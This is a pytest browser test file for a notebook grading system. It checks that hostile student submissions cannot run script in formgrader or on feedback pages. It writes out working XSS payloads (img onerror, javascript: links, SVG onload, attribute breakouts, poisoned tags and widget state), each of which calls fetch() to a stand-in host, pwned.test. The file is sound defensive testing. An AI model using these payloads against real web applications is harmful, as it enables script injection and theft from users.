"""Student HTML never runs where the instructor grades or a student reads feedback (issue 14,
item 2), and the instructor's one command opens formgrader on this course (issue 11, item 5).

A hostile student puts script into every place an audit found or a notebook allows: the
written answer (raw HTML, a ``javascript:`` link, an SVG), outputs of every rich type (HTML,
JavaScript, SVG, a PNG whose data breaks out of its attribute, image sizes that add
attributes, Markdown, an isolated iframe, a widget view), cell tags, a raw cell and widget
state. Every payload calls ``http://pwned.test/<where>``; the page intercepts that host, so a
single call means a script ran. The instructor then grades the written answers of the class
in formgrader (``mlsd grade ui``) and the grade reaches the gradebook.
"""

from __future__ import annotations

import os
import signal
import subprocess
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_raw_cell

from mlsd import present
from mlsd.grading import ui
from mlsd.grading.autograde import autograde
from mlsd.grading.feedback import feedback
from mlsd.grading.gradebook import db_url
from mlsd.grading.release import release
from tests.grading.pipeline_course import (
    SECTION,
    make_root,
    notebook_name,
    place_submissions,
    reference_answers,
    submission,
)

pytestmark = pytest.mark.browser

PWNED = "http://pwned.test"
WRITTEN = "rubric-justify"


def _call(where: str) -> str:
    return f"fetch('{PWNED}/{where}')"


WRITTEN_ANSWER = f"""Nice answer: monitoring is the weakest dimension.
<img src=x onerror="{_call("md-img")}">
[a link]({"javascript:" + _call("md-link")})
<script>{_call("md-script")}</script>
<svg onload="{_call("md-svg")}"></svg>
<a id="nbgrader" name="formgrader">clobber</a>
<iframe src="javascript:{_call("md-iframe")}"></iframe>
"""

OUTPUTS = f"""
from IPython.display import display
display({{"text/html": "<b>bold</b><script>{_call("html-script")}</script>"
                       "<img src=x onerror=\\"{_call("html-img")}\\">"}}, raw=True)
display({{"application/javascript": "{_call("js")}"}}, raw=True)
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' "
                           "onload=\\"{_call("svg")}\\"></svg>"}}, raw=True)
display({{"image/png": "x\\" onerror=\\"{_call("png")}"}}, raw=True)
display({{"image/png": "iVBORw0KGgo="}},
        metadata={{"image/png": {{"width": "1 onerror={_call("width")}"}}}}, raw=True)
display({{"text/markdown": "<img src=x onerror=\\"{_call("markdown-output")}\\">"}}, raw=True)
display({{"text/html": "<script>{_call("isolated")}</script>"}},
        metadata={{"text/html": {{"isolated": True}}}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json":
          {{"model_id": "evil", "version_major": 2, "version_minor": 0}},
          "text/plain": "a widget"}}, raw=True)
"""


def _mutate(nb):
    tag = f'"><img src=x onerror="{_call("tag")}">'
    nb.cells.append(new_code_cell("1 + 1", metadata={"tags": [tag]}))
    raw = new_raw_cell(f"<script>{_call('raw')}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.append(raw)
    state = {"evil": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                      "model_module_version": "2.0.0",
                      "state": {"value": f'<img src=x onerror="{_call("widget")}">'}}}  # fmt: skip
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
                                                      "state": state}}  # fmt: skip


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = make_root(tmp_path_factory.mktemp("grading-views"))
    release(root, SECTION, log=lambda m: None)
    ref = reference_answers(root)
    hostile = ref | {WRITTEN: WRITTEN_ANSWER, "rubric-band": OUTPUTS + ref["rubric-band"]}
    place_submissions(
        root,
        {
            "hostile": submission(root, hostile, mutate=_mutate),
            "honest": submission(root, ref),
        },
    )
    results = autograde(root, SECTION, workers=2, timeout=30, log=print)
    assert {r.student: r.status for r in results} == {"hostile": "graded", "honest": "graded"}
    return root


@pytest.fixture(scope="module")
def grading_ui(course):
    autograder = course / "autograder"
    port, token = present.free_port(), "test-token"
    log = open(course / "ui.log", "wb")  # noqa: SIM115 - closed on teardown
    proc = subprocess.Popen(
        ui.command(autograder, port, token),
        cwd=autograder,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        present.wait_for_http(f"http://127.0.0.1:{port}/api/status", proc, timeout=60)
        yield f"http://127.0.0.1:{port}", token
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(timeout=20)
        log.close()


def _watched_page(chrome, base: str | None = None, token: str = ""):
    """A page that records any call to the pwned host; logged in to ``base`` if given."""
    page = chrome.new_page()
    if base is not None:
        page.goto(f"{base}/login?next=%2Fformgrader&token={token}")
    calls: list[str] = []
    page.route(f"{PWNED}/**", lambda route: (calls.append(route.request.url), route.abort()))
    page.on("dialog", lambda dialog: (calls.append(f"dialog {dialog.message}"), dialog.dismiss()))
    return page, calls


def _submission_notebook_id(root: Path, student: str) -> str:
    from nbgrader.api import Gradebook

    notebook = Path(notebook_name(root)).stem
    with Gradebook(db_url(root)) as gb:
        return gb.find_submission_notebook(notebook, SECTION, student).id


def _settle(page, calls) -> None:
    page.wait_for_load_state("networkidle")
    time.sleep(1.5)  # handlers such as onerror and onload fire after load


def test_formgrader_shows_the_hostile_answer_without_running_it(chrome, course, grading_ui):
    base, token = grading_ui
    page, calls = _watched_page(chrome, base, token)
    notebook_id = _submission_notebook_id(course, "hostile")
    page.goto(f"{base}/formgrader/submissions/{notebook_id}/?index=0")
    _settle(page, calls)
    assert calls == []
    text = page.inner_text("body")
    assert "Nice answer: monitoring is the weakest dimension." in text
    assert "removed active content" in text  # the grader is told an attempt was made
    assert page.locator("a[href^='javascript:']").count() == 0
    page.close()


def test_the_instructor_grades_a_written_answer_in_formgrader(chrome, course, grading_ui):
    base, token = grading_ui
    page, calls = _watched_page(chrome, base, token)
    notebook_id = _submission_notebook_id(course, "honest")
    page.goto(f"{base}/formgrader/submissions/{notebook_id}/?index=0")
    score = page.locator(f"input.score[id='{WRITTEN}']")
    score.fill("1.5")
    score.press("Tab")  # formgrader saves on change
    from nbgrader.api import Gradebook

    deadline = time.monotonic() + 20
    manual = None
    while time.monotonic() < deadline and manual != 1.5:
        with Gradebook(db_url(course)) as gb:
            grade = gb.find_grade(WRITTEN, Path(notebook_name(course)).stem, SECTION, "honest")
            manual = grade.manual_score
        time.sleep(0.3)
    assert manual == 1.5
    assert calls == []
    page.close()


def test_the_grading_server_cannot_write_files_or_run_code(grading_ui, course):
    import json
    import urllib.error
    import urllib.request

    base, token = grading_ui
    config = course / "autograder" / "nbgrader_config.py"
    before = config.read_bytes()
    for method, path, body in (
        ("PUT", "/api/contents/nbgrader_config.py", {"type": "file", "format": "text",
                                                     "content": "import os"}),
        ("DELETE", "/api/contents/nbgrader_config.py", None),
        ("POST", "/api/kernels", {}),
        ("POST", "/api/terminals", {}),
    ):  # fmt: skip
        request = urllib.request.Request(
            f"{base}{path}?token={token}",
            data=None if body is None else json.dumps(body).encode(),
            method=method,
            headers={"Content-Type": "application/json"},
        )
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=10)
        assert refused.value.code in (403, 404), (method, path, refused.value.code)
    assert config.read_bytes() == before


def test_feedback_pages_show_the_hostile_answer_without_running_it(chrome, course):
    pages = feedback(course, SECTION, log=print, force=True)
    (hostile,) = [p for p in pages if "/hostile/" in p.as_posix()]
    page, calls = _watched_page(chrome)
    page.goto(hostile.as_uri())
    _settle(page, calls)
    assert calls == []
    assert "Nice answer: monitoring is the weakest dimension." in page.inner_text("body")
    page.close()


def _hostile_notebook() -> nbformat.NotebookNode:
    """The payloads as a graded notebook would hold them: markdown, outputs, tags, state."""
    from nbformat.v4 import new_markdown_cell, new_notebook, new_output

    cells = [new_markdown_cell(WRITTEN_ANSWER), new_code_cell("print('hi')")]
    outputs = cells[1].outputs = []

    def display(bundle, metadata=None, raw=True):
        outputs.append(new_output("display_data", data=bundle, metadata=metadata or {}))

    exec(OUTPUTS.replace("from IPython.display import display\n", ""), {"display": display})
    nb = new_notebook(cells=cells)
    _mutate(nb)
    return nb


def _rendered_calls(chrome, nb, folder: Path, name: str) -> list[str]:
    from nbconvert import HTMLExporter

    page_file = folder / f"{name}.html"
    page_file.write_text(HTMLExporter(template_name="classic").from_notebook_node(nb)[0])
    page, calls = _watched_page(chrome)
    page.goto(page_file.as_uri())
    _settle(page, calls)
    page.close()
    return calls


def test_the_payloads_are_live_and_the_cleaner_stops_every_one(chrome, tmp_path):
    """Control: rendered as nbconvert renders it, the hostile notebook runs scripts; after
    SanitizeSubmission, none. (A test whose payloads never fire would prove nothing.)"""
    from mlsd.grading.sanitize import SanitizeSubmission

    raw = _rendered_calls(chrome, _hostile_notebook(), tmp_path, "raw")
    assert len(raw) >= 5, raw
    clean, _ = SanitizeSubmission().preprocess(_hostile_notebook(), {})
    assert _rendered_calls(chrome, clean, tmp_path, "clean") == []
